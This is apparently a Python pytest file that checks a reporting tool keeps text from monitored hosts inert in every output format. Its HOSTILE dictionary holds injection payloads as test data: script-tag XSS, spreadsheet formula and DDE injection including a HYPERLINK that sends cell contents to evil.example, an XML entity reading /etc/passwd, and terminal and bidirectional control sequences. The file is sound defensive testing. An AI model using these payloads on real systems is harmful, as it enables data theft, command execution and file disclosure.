"""What a host says stays a text in every format: never a command, markup, a formula or a gap.

Each text is planted wherever a report tells something from outside, in every format there is.
"""

import io
import json
import re
import unicodedata
from collections.abc import Callable
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import openpyxl
import pytest
import xmlschema

from omlib.jobs.reports import Report, write_report
from omlib.model.estate import Department, Estate, System
from omlib.model.finding import Coverage, Difference, Finding, Verdict
from omlib.model.item import Scope, Source
from omlib.model.lifecycle import Lifecycle, LifecycleStatus, Stage
from omlib.model.ref import Plane, make_ref
from omlib.model.status import Status, UnknownReason, UnmanagedClass
from omlib.model.waiver import Waiver
from omlib.reconcile.rollup import Verdicts
from omlib.report.changes import changes
from omlib.report.formats import Format
from omlib.report.readers import read_findings, read_findings_lines
from omlib.report.reconciliation import Reconciliation, RunFacts
from omlib.report.words import Lang

SCHEMAS = Path(__file__).parents[2] / "schemas"

HOSTILE = {
    "ansi": "\x1b[2J\x1b[31mall is well\x07\x9b1m",
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(1)>&lt;--><!--",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_wide": "\uff1d1+1",
    "bidi": "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\ufeff",
    "excel_escape": "_x202E_ and _x000A_",
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x85six\x0bseven",
    "nul": "before\x00after\ufffe\uffff",
    "surrogates": "\ud800 lone \udfff",
    "combining": "e" + "\u0301" * 200,
    "markdown": "`x` ``y`` ```\n</details># big [a](http://evil.example) @everyone #1 | ~~~ \\",
    "sarif": "[click me](http://evil.example) {0} {1}",
    "xml": "]]><failure/><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "json": '"}],"schema":"omlib.findings/9.0"',
}
LONG = {"narrow": "A" * 1_000_000, "wide": "宽" * 350_000, "stacked": "e" + "\u0301" * 500_000}
FORMATS = list(Format)


def _reconciliation(text: str, findings: tuple[Finding, ...]) -> Reconciliation:
    system = System(
        id="oa",
        name=text,
        department="hall",
        owner_business=text,
        owner_technical=text,
        function=(),
        zone="extranet",
        mlps_level=3,
        lifecycle=Lifecycle(
            stage=Stage.OPERATIONAL, status=LifecycleStatus.IN_USE, since=date(2026, 1, 1)
        ),
        source=Source("systems.yml", 1),
    )
    waiver = Waiver(
        ref=findings[0].ref,
        path="banner",
        accepts=text,
        reason=text,
        owner=text,
        ticket=text,
        until=date(2026, 12, 31),
    )
    estate = Estate(
        name=text,
        timezone="Asia/Shanghai",
        departments={
            "hall": Department(id="hall", name=text, parent="", source=Source("d.yml", 1))
        },
        sites={},
        clouds={},
        systems={"oa": system},
        vms={},
        security_groups={},
        servers={},
        devices={},
        rooms={},
        circuits={},
        contracts=(),
        windows={},
        tombstones={},
        waivers=(waiver,),
    )
    counts = {finding.status: 1 for finding in findings}
    verdict = Verdict(subject="oa", status=Status.RESIDUE, counts=counts)
    gap = (Scope(Plane.SERVER, "file", text), UnknownReason.DENIED, text)
    return Reconciliation(
        run=RunFacts(
            id="20261121T020007Z-7c1e",
            started=datetime(2026, 11, 21, 2, 0, 7, tzinfo=UTC),
            took_s=1.25,
            scope=text,
            actor=text,
            revision=text,
            tool=text,
        ),
        estate=estate,
        findings=findings,
        verdicts=Verdicts(
            systems={"oa": verdict},
            departments={"hall": Verdict(subject="hall", status=Status.RESIDUE, counts=counts)},
        ),
        coverage=(Coverage(plane="server", scopes=2, complete=1, items=7, seen=6, gaps=(gap,)),),
    )


def _everywhere(text: str) -> tuple[Finding, ...]:
    """A finding of each status, with *text* in all it tells."""
    told = []
    for at, status in enumerate(Status):
        waived = text if status is Status.WAIVED else ""
        differences = (
            Difference(path="banner", declared="plain", actual=text, waived_by=waived),
            Difference(path=f"{text}.{at}", declared=text, actual=None, waived_by=waived),
            Difference(path="lines", declared=("a", text), actual=(text, "b"), waived_by=waived),
        )
        unknown, unmanaged = status is Status.UNKNOWN, status is Status.UNMANAGED
        told.append(
            Finding(
                ref=make_ref(Plane.SERVER, "file", "oa-01", f"{at}{text}"),
                status=status,
                scope=Scope(Plane.SERVER, "file", text),
                differences=() if status is Status.IN_SYNC or unknown else differences,
                reason=UnknownReason.ERROR if unknown else None,
                unmanaged=UnmanagedClass.UNKNOWN_OWNER if unmanaged else None,
                detail=text,
                unseen={text: UnknownReason.DENIED} if status is Status.DIVERGED else {},
                systems=("oa", text),
                department="hall",
                source=Source(text, 3),
                live=text,
                label=text,
                contested=(text,),
            )
        )
    return tuple(told)


def _from_a_host(text: str) -> tuple[Finding, ...]:
    """*text* where a host can put a whole file: its names, its values, its last words."""
    scope = Scope(Plane.SERVER, "file", "oa-01")
    values = (
        Difference(path="banner", declared="plain", actual=text),
        Difference(path="lines", declared=("a", "b"), actual=("b", text)),
    )
    found = Finding(
        ref=make_ref(Plane.SERVER, "file", "oa-01", text),
        status=Status.UNMANAGED,
        scope=scope,
        unmanaged=UnmanagedClass.UNKNOWN_OWNER,
        differences=values,
        label=text,
        live=text,
    )
    unknown = Finding(
        ref=make_ref(Plane.SERVER, "file", "oa-01", "/etc/motd"),
        status=Status.UNKNOWN,
        scope=scope,
        reason=UnknownReason.ERROR,
        detail=text,
    )
    return found, unknown


def _written(form: Format, text: str, lang: Lang = Lang.EN) -> bytes:
    it = _reconciliation(text, _everywhere(text))
    return _bytes(it, form, lang)


def _bytes(it: Reconciliation, form: Format, lang: Lang = Lang.EN) -> bytes:
    before = [it.findings[0], *(finding for finding in it.findings[2:])]
    out = io.BytesIO()
    since = changes(before, it.findings[:-1], since="20261120T020003Z-1f0a")
    write_report(Report(told=it, changes=since, trend=None), form, out, lang=lang)
    return out.getvalue()


def _shown(data: bytes, form: Format) -> str:
    """All text of a report; of a workbook, its cells."""
    if form is not Format.XLSX:
        return data.decode("utf-8")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [str(cell) for sheet in book for row in sheet.values for cell in row if cell]
    return "\n".join(cells)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_in_a_report_moves_a_cursor_hides_or_turns_round(name: str, form: Format) -> None:
    shown = _shown(_written(form, HOSTILE[name]), form)
    # a report's own file may hold no-break spaces and the like; what a host said may not
    obeyed = {
        char for char in set(shown) if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    }
    assert obeyed <= {"\n"}
    assert "\ufffe" not in shown or form in (Format.JSON, Format.JSONL)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", LONG)
def test_a_line_of_a_megabyte_is_cut_where_people_read_and_whole_for_programs(
    name: str, form: Format
) -> None:
    it = _reconciliation("江滨", _from_a_host(LONG[name]))
    told = _bytes(it, form)
    if form is Format.JSON:
        assert read_findings(told.decode()) == it.findings
    elif form is Format.JSONL:
        assert tuple(read_findings_lines(told.decode().splitlines())) == it.findings
    else:
        assert len(told) < 200_000


@pytest.mark.parametrize("name", HOSTILE)
def test_programs_get_the_exact_values_back(name: str) -> None:
    findings = _everywhere(HOSTILE[name])
    assert read_findings(_written(Format.JSON, HOSTILE[name]).decode()) == findings
    lines = _written(Format.JSONL, HOSTILE[name]).decode()
    assert tuple(read_findings_lines(lines.splitlines())) == findings


@pytest.mark.parametrize("name", HOSTILE)
def test_sarif_and_junit_keep_their_schemas(name: str) -> None:
    schema = json.loads((SCHEMAS / "sarif-2.1.0-rtm.5.json").read_text(encoding="utf-8"))
    told = json.loads(_written(Format.SARIF, HOSTILE[name]))
    jsonschema.Draft4Validator(schema).validate(told)
    text = _written(Format.JUNIT, HOSTILE[name]).decode("utf-8")
    xmlschema.XMLSchema(SCHEMAS / "junit-10.xsd").validate(io.StringIO(text))
    cases = xmlschema.XMLResource(text).root.findall(".//testcase")
    assert len(cases) == len(Status) + 1  # and the gap


def test_sarif_makes_no_link_of_what_a_host_said() -> None:
    told = json.loads(_written(Format.SARIF, HOSTILE["sarif"]))
    results = told["runs"][0]["results"]
    assert not any("](" in result["message"]["text"] for result in results)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_workbook_holds_no_formula(name: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(_written(Format.XLSX, HOSTILE[name])))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type in ("s", "n", "inlineStr")
                    assert not re.match(r"\s*[=+\-@\uff1d]", str(cell.value))
                    assert not re.search(r"(?<!_x005F)_x202E_", str(cell.value))


def _outside_of_code(text: str) -> str:
    """Markdown without its fences and code spans, found as CommonMark has it."""
    kept: list[str] = []
    fence = ""
    for row in text.split("\n"):
        opened = re.match("`{3,}", row)
        if fence:
            fence = "" if row == fence else fence
        elif opened:
            fence = opened[0]
        else:
            kept.append(re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", "", row))
    assert not fence
    return "\n".join(kept)


@pytest.mark.parametrize("lang", list(Lang))
@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_has_no_markup_mention_or_link_but_its_own(name: str, lang: Lang) -> None:
    told = _outside_of_code(_written(Format.MARKDOWN, HOSTILE[name], lang).decode("utf-8"))
    for sign in ("<script", "<img", "://", "@", "~~~", "[", "\x1b", "&"):
        assert sign not in told
    assert told.count("<details>") == told.count("</details>") > 3
    assert told.count("<!--") == told.count("-->") == 1


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag + "".join(f" {name}" for name, _ in attrs if name.startswith("on")))


@pytest.mark.parametrize("name", ["html", "attribute", "xml", "markdown", "json"])
def test_html_has_no_element_of_a_host(name: str) -> None:
    def tags(text: str) -> list[str]:
        parser = _Tags()
        parser.feed(_written(Format.HTML, text).decode("utf-8"))
        return parser.seen

    assert tags(HOSTILE[name]) == tags("x" * len(HOSTILE[name]))


@pytest.mark.parametrize("lang", list(Lang))
@pytest.mark.parametrize("form", FORMATS)
def test_the_same_run_gives_the_same_bytes(form: Format, lang: Lang) -> None:
    one = _written(form, HOSTILE["html"], lang)
    assert one == _written(form, HOSTILE["html"], lang)
    assert len(one) > 500


@pytest.mark.parametrize("make", [_written])
def test_a_format_speaks_both_languages(make: Callable[..., bytes]) -> None:
    for form in (Format.MARKDOWN, Format.JUNIT, Format.SARIF, Format.SCREEN, Format.HTML):
        assert make(form, "x", Lang.ZH) != make(form, "x", Lang.EN)
